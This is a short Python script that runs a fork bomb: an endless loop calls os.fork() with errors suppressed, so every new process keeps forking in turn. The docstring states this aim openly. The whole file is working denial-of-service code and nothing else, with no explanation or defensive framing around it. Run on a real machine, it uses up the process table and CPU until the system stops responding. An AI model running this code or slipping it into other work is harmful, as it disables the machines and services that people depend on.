"""Makes processes as fast as it can, and every one of them does the same."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
